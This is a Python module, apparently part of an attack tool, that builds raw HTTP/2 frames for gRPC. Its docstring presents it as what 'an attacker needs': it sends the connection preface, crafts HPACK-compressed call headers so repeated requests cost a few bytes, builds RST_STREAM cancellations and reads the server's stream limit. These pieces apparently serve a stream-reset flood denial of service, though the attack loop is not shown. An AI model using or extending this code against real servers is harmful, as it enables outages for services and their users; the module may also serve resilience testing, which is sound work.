# SPDX-License-Identifier: Apache-2.0
"""As much of HTTP/2 as an attacker needs: frames, and the head of a gRPC call. Python's standard library only."""

import socket
import struct

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS = 1, 3, 4
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL = 8
MAX_CONCURRENT_STREAMS = 3  # A setting.


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def reset(stream):
    return frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))


class CallHeads:
    """HEADERS of calls to one path: the first spelled out and remembered by the peer, the others a few bytes."""

    def __init__(self, path):
        text = lambda word: bytes((len(word),)) + word
        # Static table: 3 is POST, 6 is http, 1 an authority, 4 a path, 31 a content type. 0x40 has the peer remember.
        self._first = (b"\x83\x86" + b"\x41" + text(b"h") + b"\x44" + text(path) + b"\x40" + text(b"te") + text(b"trailers") +
                       b"\x5f" + text(b"application/grpc"))
        # The latest remembered has index 62.
        self._next = b"\x83\x86" + bytes((0x80 | 65, 0x80 | 64, 0x80 | 63, 0x80 | 62))
        self._begun = False

    def call(self, stream):
        block, self._begun = (self._next if self._begun else self._first), True
        return frame(HEADERS, END_HEADERS, stream, block)


def first_settings(connection):
    """What the peer sets, by the number of each setting: the first frame that it sends."""
    with connection.makefile("rb") as frames:
        head = frames.read(9)
        assert head[3] == SETTINGS, head
        payload = frames.read(int.from_bytes(head[:3], "big"))
    return dict(struct.iter_unpack(">HI", payload))


def connect(address, seconds):
    """A connection that has said hello and agreed to what the other says."""
    host, port = address.rsplit(":", 1)
    connection = socket.create_connection((host, int(port)), timeout=seconds)
    connection.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
    return connection
